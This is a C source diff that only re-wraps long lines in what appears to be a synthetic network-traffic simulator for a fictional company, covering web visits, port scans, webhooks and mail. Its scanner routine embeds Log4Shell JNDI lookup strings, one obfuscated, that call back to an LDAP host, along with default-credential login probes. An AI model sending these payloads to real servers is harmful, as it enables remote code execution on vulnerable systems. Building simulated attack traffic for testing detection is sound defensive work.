@@ -8,12 +8,15 @@
 
 enum { REGULARS = 6000, SCANNERS = 300, PARTNERS = 24, DISCLOSED_DAY = 24 };
 
-static const char *const SITE_NAMES[] = {"www.corp.example", "shop.corp.example", "portal.corp.example", "app.corp.example"};
+static const char *const SITE_NAMES[] = {"www.corp.example", "shop.corp.example", "portal.corp.example",
+					 "app.corp.example"};
 
 // Most come again, some never came before.
 static struct host visitor(const struct duty *d)
 {
-	uint64_t hash = chance_percent(d->chance, 35) ? chance_next(d->chance) : chance_mix(chance_mix(d->company->seed, 50), chance_skewed(d->chance, REGULARS));
+	uint64_t hash = chance_percent(d->chance, 35)
+				? chance_next(d->chance)
+				: chance_mix(chance_mix(d->company->seed, 50), chance_skewed(d->chance, REGULARS));
 
 	return site_address(hash);
 }
@@ -21,14 +24,18 @@ static struct host visitor(const struct duty *d)
 void duty_visit_http(struct duty *d)
 {
 	static const char *const agents[] = {
-		"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/96.0.4664.45 Safari/537.36",
-		"Mozilla/5.0 (iPhone; CPU iPhone OS 15_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/15.1 Mobile/15E148 Safari/604.1",
+		"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/96.0.4664.45 "
+		"Safari/537.36",
+		"Mozilla/5.0 (iPhone; CPU iPhone OS 15_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) "
+		"Version/15.1 Mobile/15E148 Safari/604.1",
 		"Mozilla/5.0 (compatible; SearchOneBot/2.1; +http://www.search-one.example/bot.html)",
 		"FeedReader/3.2 (+http://feeds.example)",
 	};
 	static const char *const uris[] = {"/", "/style.css", "/news/", "/products/list?page=1", "/feed.json"};
 	struct host from = visitor(d);
-	struct http_ask ask = {"GET", "/", SITE_NAMES[d->member->number % 4], agents[chance_skewed(d->chance, 4)], HTTP_BROWSER, NULL, NULL};
+	struct http_ask ask = {
+		"GET", "/", SITE_NAMES[d->member->number % 4], agents[chance_skewed(d->chance, 4)], HTTP_BROWSER,
+		NULL,  NULL};
 	struct http_answer answer = {200, "nginx/1.18.0", BODY_HTML, 900, false};
 	unsigned pages = 1 + chance_skewed(d->chance, 3);
 	struct talk t;
@@ -44,7 +51,12 @@ void duty_visit_http(struct duty *d)
 void duty_visit_https(struct duty *d)
 {
 	struct host from = visitor(d);
-	struct tls_plan plan = {(enum tls_client)chance_skewed(d->chance, TLS_CLIENTS), SITE_NAMES[d->member->number % 4], 1 + chance_skewed(d->chance, 3), 420, 700, 5 * SEC};
+	struct tls_plan plan = {(enum tls_client)chance_skewed(d->chance, TLS_CLIENTS),
+				SITE_NAMES[d->member->number % 4],
+				1 + chance_skewed(d->chance, 3),
+				420,
+				700,
+				5 * SEC};
 	struct talk t;
 
 	talk_open(&t, d->stage, d->chance, &from, &d->member->host, 443, d->when_ns);
@@ -64,18 +76,27 @@ static void poke(struct duty *d, const struct host *scanner)
 		{"GET", "/.git/config", "python-requests/2.26.0", HTTP_PYTHON},
 		{"GET", "/owa/auth/logon.aspx", "Go-http-client/1.1", HTTP_PLAIN},
 		{"GET", "/actuator/health", "Hello, world", HTTP_PLAIN},
-		{"POST", "/boaform/admin/formLogin", "Mozilla/5.0 (X11; Ubuntu; Linux x86_64; rv:71.0) Gecko/20100101 Firefox/71.0", HTTP_PLAIN},
+		{"POST", "/boaform/admin/formLogin",
+		 "Mozilla/5.0 (X11; Ubuntu; Linux x86_64; rv:71.0) Gecko/20100101 Firefox/71.0", HTTP_PLAIN},
 	};
 	uint32_t n = chance_skewed(d->chance, 8);
 	char host[ADDRESS_TEXT_BYTES], text[ADDRESS_TEXT_BYTES], lookup[120];
-	struct http_ask ask = {pokes[n].method, pokes[n].uri, address_format(&d->member->host.address, host), pokes[n].agent, pokes[n].client, NULL,
+	struct http_ask ask = {pokes[n].method,
+			       pokes[n].uri,
+			       address_format(&d->member->host.address, host),
+			       pokes[n].agent,
+			       pokes[n].client,
+			       NULL,
 			       pokes[n].method[0] == 'P' ? "username=admin&psd=admin" : NULL};
 	struct http_answer answer = {404, "nginx/1.18.0", BODY_HTML, 300, false};
 	struct talk t;
 
 	if (chance_percent(d->chance, d->day < DISCLOSED_DAY ? 3 : 15)) {
 		address_format(&scanner->address, text);
-		snprintf(lookup, sizeof(lookup), chance_percent(d->chance, 30) ? "${${lower:j}ndi:ldap://%s:1389/a}" : "${jndi:ldap://%s:1389/Exploit}", text);
+		snprintf(lookup, sizeof(lookup),
+			 chance_percent(d->chance, 30) ? "${${lower:j}ndi:ldap://%s:1389/a}"
+						       : "${jndi:ldap://%s:1389/Exploit}",
+			 text);
 		ask.agent = lookup;
 		ask.client = HTTP_PLAIN;
 	}
@@ -87,13 +108,16 @@ static void poke(struct duty *d, const struct host *scanner)
 void duty_scan(struct duty *d)
 {
 	static const uint16_t ports[] = {22, 23, 3389, 8080, 445, 1433, 6379, 2375};
-	uint64_t hash = chance_percent(d->chance, 20) ? chance_next(d->chance) : chance_mix(chance_mix(d->company->seed, 51), chance_skewed(d->chance, SCANNERS));
+	uint64_t hash = chance_percent(d->chance, 20)
+				? chance_next(d->chance)
+				: chance_mix(chance_mix(d->company->seed, 51), chance_skewed(d->chance, SCANNERS));
 	struct host scanner = site_address(hash);
 	uint32_t kind = chance_below(d->chance, 10);
 	struct talk t;
 
 	if (kind < 4) {
-		talk_refused(d->stage, d->chance, &scanner, &d->member->host, ports[chance_skewed(d->chance, 8)], d->when_ns);
+		talk_refused(d->stage, d->chance, &scanner, &d->member->host, ports[chance_skewed(d->chance, 8)],
+			     d->when_ns);
 		return;
 	}
 	if (kind < 9) {
@@ -104,8 +128,8 @@ void duty_scan(struct duty *d)
 	tls_session(&t, &(struct tls_plan){TLS_GO, NULL, 1, 90, 300, 1 * SEC});
 }
 
-// A client hands in where it wants to be told of the result, and is told: an exposed server that honestly calls back. One
-// partner joins about every two weeks.
+// A client hands in where it wants to be told of the result, and is told: an exposed server that honestly calls back.
+// One partner joins about every two weeks.
 void duty_webhook(struct duty *d)
 {
 	uint32_t known = PARTNERS / 2 + d->day / 14 + d->member->number;
@@ -132,7 +156,8 @@ void duty_webhook(struct duty *d)
 	if (!chance_percent(d->chance, 40))
 		return;
 	when = t.now_ns + chance_between(d->chance, 500 * MS, 40 * SEC);
-	when = name_answer(d->stage, d->chance, &d->member->host, &d->company->member[d->company->resolver[0]].host, name, &from, when, 3 * MS);
+	when = name_answer(d->stage, d->chance, &d->member->host, &d->company->member[d->company->resolver[0]].host,
+			   name, &from, when, 3 * MS);
 	talk_open(&t, d->stage, d->chance, &d->member->host, &from, partner % 5 ? 443 : 80, when + 300 * US);
 	if (partner % 5) {
 		tls_session(&t, &plan);
@@ -179,7 +204,8 @@ void duty_mail_in(struct duty *d)
 void duty_mail_out(struct duty *d)
 {
 	// New correspondents every week: 1 in 30 mails goes to a domain nobody wrote to.
-	uint32_t peer = chance_below(d->chance, 30) ? chance_skewed(d->chance, 700) : 10000 + chance_below(d->chance, 1u << 24);
+	uint32_t peer =
+		chance_below(d->chance, 30) ? chance_skewed(d->chance, 700) : 10000 + chance_below(d->chance, 1u << 24);
 	struct host to = site_address(chance_mix(chance_mix(d->company->seed, 53), peer));
 	char server[40], client[32];
 	struct talk t;
@@ -187,7 +213,8 @@ void duty_mail_out(struct duty *d)
 
 	snprintf(server, sizeof(server), "mx.mailer-%u.example", peer);
 	snprintf(client, sizeof(client), "mx%u.corp.example", d->member->number + 1);
-	when = name_answer(d->stage, d->chance, &d->member->host, &d->company->member[d->company->resolver[0]].host, server, &to, d->when_ns, 8 * MS);
+	when = name_answer(d->stage, d->chance, &d->member->host, &d->company->member[d->company->resolver[0]].host,
+			   server, &to, d->when_ns, 8 * MS);
 	talk_open(&t, d->stage, d->chance, &d->member->host, &to, 25, when + 300 * US);
 	mail_session(d, &t, server, client);
 }
